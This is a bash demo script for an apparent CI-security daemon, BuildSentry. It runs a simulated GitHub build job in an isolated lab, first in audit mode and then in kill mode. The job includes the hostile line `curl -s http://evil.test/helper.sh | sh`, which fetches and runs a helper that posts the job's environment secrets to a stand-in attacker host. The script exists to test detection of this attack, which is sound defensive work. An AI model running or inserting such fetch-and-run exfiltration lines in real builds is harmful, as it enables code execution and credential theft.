#!/usr/bin/env bash
# The seed scenario, end to end: a GitHub-marked build job in the network lab makes its allowed
# downloads from registry.test, then runs `curl -s http://evil.test/helper.sh | sh`, whose helper
# posts the job's environment to evil.test. First with the daemon in audit mode (alerts, the
# secrets leave), then in kill mode (the job dies at its first contact with evil.test, nothing
# leaves). Needs root; holds the lab lock so it never collides with tests.
set -euo pipefail
cd "$(dirname "$0")/.."

if [ -z "${BUILDSENTRY_LAB_LOCKED:-}" ]; then
  exec env BUILDSENTRY_LAB_LOCKED=1 flock /run/buildsentry-lab.lock "$0" "$@"
fi

# shellcheck source=scripts/deps.sh
source scripts/deps.sh
ensure_test_dependencies
export DOTNET_CLI_TELEMETRY_OPTOUT=1 DOTNET_NOLOGO=1
publish_daemon >/dev/null
bin=$DAEMON_DIR/buildsentry

work=$(mktemp -d /tmp/buildsentry-demo.XXXXXX)
daemon_pid=""
stop_daemon() {
  if [ -n "$daemon_pid" ] && kill -0 "$daemon_pid" 2>/dev/null; then
    kill -TERM "$daemon_pid"
    wait "$daemon_pid" 2>/dev/null || true
  fi
  daemon_pid=""
}
cleanup() {
  stop_daemon
  scripts/lab.sh down >/dev/null 2>&1 || true
  rm -rf "$work"
}
trap cleanup EXIT

echo "== lab up (20 ms link delay)"
scripts/lab.sh up --delay-ms 20 >/dev/null

mkdir -p "$work/profiles"
cp tests/BuildSentry.EndToEnd/Profiles/lab.yaml "$work/profiles/"
socket="$work/control.sock"
recv=/run/buildsentry-lab/recv/evil.test.log

start_daemon() {
  local mode=$1
  cat >"$work/buildsentry.yaml" <<YAML
profiles_dir: $work/profiles
default_mode: $mode
reports_dir: $work/reports
control:
  socket: $socket
prevent:
  dns_servers: [198.18.0.2]
YAML
  "$bin" run --config "$work/buildsentry.yaml" >"$work/daemon-$mode.log" 2>&1 &
  daemon_pid=$!
  for _ in $(seq 100); do
    if "$bin" status --json --socket "$socket" 2>/dev/null | grep -q '"capture":"on"'; then
      return
    fi
    sleep 0.2
  done
  echo "the daemon did not start:" >&2
  cat "$work/daemon-$mode.log" >&2
  exit 1
}

# The job: allowed downloads, then the one innocent-looking line.
job='set -e
curl -s -o /dev/null -w "registry.test/ok: %{http_code}\n" http://registry.test/ok
curl -s -o /dev/null -w "cdn.test/bytes/65536: %{http_code}\n" --cacert /run/buildsentry-lab/tls/cert.pem https://cdn.test/bytes/65536
curl -s http://evil.test/helper.sh | sh'

run_job() {
  local mode=$1 run_id=$2 before status
  before=$( [ -f "$recv" ] && wc -l <"$recv" || echo 0)
  echo
  echo "== $mode mode: job GITHUB_RUN_ID=$run_id"
  set +e
  scripts/lab.sh exec env GITHUB_ACTIONS=true GITHUB_RUN_ID="$run_id" GITHUB_JOB=build \
    GITHUB_REPOSITORY=acme/app AWS_SECRET_ACCESS_KEY=demo-secret-value bash -c "$job"
  status=$?
  set -e
  echo "job exit status: $status"
  sleep 1
  echo "-- alerts"
  grep -E 'ALERT' "$work/daemon-$mode.log" | sed -E 's/^.*ALERT /ALERT /' | cut -c1-220 || echo "(none)"
  echo "-- evil.test received"
  local received
  received=$( [ -f "$recv" ] && tail -n +"$((before + 1))" "$recv" || true)
  if [ -z "$received" ]; then
    echo "nothing"
  else
    echo "$received"
    echo "$received" | awk '$5 == "POST" { bytes += $4 } END { printf "environment bytes posted: %d\n", bytes }'
  fi
}

start_daemon audit
run_job audit "$RANDOM$RANDOM"
stop_daemon

start_daemon kill
run_job kill "$RANDOM$RANDOM"
stop_daemon
